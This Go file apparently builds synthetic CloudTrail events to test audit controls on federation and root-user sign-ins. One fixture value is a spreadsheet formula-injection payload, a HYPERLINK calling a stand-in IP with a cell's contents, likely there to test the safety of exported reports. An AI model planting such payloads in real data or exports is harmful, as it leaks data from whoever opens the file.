package demo

import (
	"fmt"
	"time"
)

// signIn is a sign-in to the console. CloudTrail records it as its own type of
// event; what the caller said is in additionalEventData.
func signIn(name, at string, where place, by actor, result, mfa string, expects ...expectation) planted {
	p := plant(name, at, where, by, call{service: "signin", name: "ConsoleLogin"}, expects...)
	p.event.EventVersion, p.event.EventType, p.event.RequestID = "1.08", "AwsConsoleSignIn", ""
	p.event.ResponseElements = fields{"ConsoleLogin": result}
	p.event.AdditionalEventData = fields{"LoginTo": "https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true", "MobileVersion": "No", "MFAUsed": mfa}
	p.event.TLSDetails.Host = where.region + ".signin.aws.amazon.com"
	p.event.UserIdentity.AccessKeyID = "" // there is no session yet
	if by.kind == "AssumedRole" {
		p.event.UserIdentity.AccessKeyID = awsID("ASIA", where.account, by.role, by.session, at)
	}
	if result == "Failure" {
		p.event.ErrorMessage = "Failed authentication"
	}
	return p
}

// federatedStory is for ACC-08: people come by federation, with four exceptions,
// and a machine's user that the organisation has exempted.
func federatedStory() []planted {
	admin := person("sre-01", "Administrator")
	formula := iamUser("dev-07").with(`=HYPERLINK("http://203.0.113.99/?"&A1,"開く")`)
	profile := func(name, user string, reset bool) call {
		return call{service: "iam", name: name, request: fields{"userName": user, "passwordResetRequired": reset}}
	}
	created := profile("CreateLoginProfile", "contractor-03", true)
	created.response = fields{"loginProfile": fields{"userName": "contractor-03", "createDate": "Oct 21, 2026, 1:15:20 AM", "passwordResetRequired": true}}
	all := []planted{
		signIn("federation: user signs in", "2026-10-09 21:05:12", productionWorld, iamUser("ops-04").with(browser), "Success", "Yes",
			exception("ACC-08", "console_login",
				"IAM ユーザー ops-04 がフェデレーションを経ずにコンソールへサインインした。",
				"The IAM user ops-04 signed in to the console without federation.")),
		signIn("federation: user fails to sign in", "2026-10-09 21:04:31", productionWorld, iamUser("ops-04").with(browser), "Failure", "No", passes("ACC-08")),
		plant("federation: user calls, first", "2026-10-16 19:44:02", production, formula,
			call{service: "s3", name: "ListBuckets", request: fields{"Host": "s3.ap-northeast-1.amazonaws.com"}, readOnly: true},
			exception("ACC-08", "api_use",
				"個人の IAM ユーザー dev-07 が長期アクセスキーで API を使用した(1件目)。",
				"The personal IAM user dev-07 used the API with a long-lived key (first call).")),
		plant("federation: user calls, second", "2026-10-16 19:45:48", production, formula,
			call{service: "ec2", name: "DescribeInstances", request: fields{"instancesSet": fields{}, "filterSet": fields{}}, readOnly: true},
			exception("ACC-08", "api_use",
				"個人の IAM ユーザー dev-07 が長期アクセスキーで API を使用した(2件目)。",
				"The personal IAM user dev-07 used the API with a long-lived key (second call).")),
		plant("federation: password made", "2026-10-21 10:15:20", productionWorld, admin, created,
			exception("ACC-08", "password_set",
				"IAM ユーザー contractor-03 にコンソール用パスワードが設定された。",
				"A console password was set for the IAM user contractor-03.")),
		plant("federation: password refused", "2026-10-21 10:14:58", productionWorld, admin, profile("CreateLoginProfile", "contractor-03", true), passes("ACC-08")).
			failed("PasswordPolicyViolation", "Password should have at least one symbol"),
	}
	return append(all, federatedSignIns()...)
}

// federatedSignIns are those of ordinary mornings: in no population.
func federatedSignIns() []planted {
	var all []planted
	first := inJapan("2026-10-01 09:02:00")
	for day := range 31 {
		morning := first.AddDate(0, 0, day)
		if !workingDay(morning) {
			continue
		}
		for i, who := range []actor{person("sre-01", "Operator"), person("sre-02", "Operator"), person("bizops-01", "ReadOnly"), person("dba-01", "Database")} {
			at := morning.Add(time.Duration(i*7+day%5) * time.Minute)
			all = append(all, signIn(fmt.Sprintf("federation: %s, day %d", who.session, day+1), at.Format(time.DateTime), production, who, "Success", "No"))
		}
	}
	return all
}

// rootStory is for ACC-10: the root user signs in and looks around once. What
// AWS itself does in root's name is not use of the root user.
func rootStory() []planted {
	closed := plant("root: service event", "2026-10-11 04:30:00", productionWorld, root(), call{service: "billing", name: "AwsServiceEvent"}, notApplicable("ACC-10"))
	closed.event.EventName, closed.event.EventType, closed.event.EventSource = "CredentialReportGenerated", "AwsServiceEvent", "iam.amazonaws.com"
	closed.event.SourceIPAddress, closed.event.UserAgent, closed.event.TLSDetails = "AWS Internal", "AWS Internal", nil
	closed.event.UserIdentity.InvokedBy = "AWS Internal"
	closed.event.ServiceEventDetails = fields{"CredentialReport": "Complete"}
	return []planted{
		signIn("root: signs in", "2026-10-24 10:02:19", productionWorld, root(), "Success", "Yes",
			exception("ACC-10", "root_console_login",
				"ルートユーザーがコンソールへサインインした。",
				"The root user signed in to the console.")),
		plant("root: looks", "2026-10-24 10:03:40", productionWorld, root(),
			call{service: "iam", name: "GetAccountSummary", readOnly: true},
			exception("ACC-10", "root_activity",
				"ルートユーザーがアカウントの概要を参照した。",
				"The root user read the account's summary.")),
		closed,
	}
}
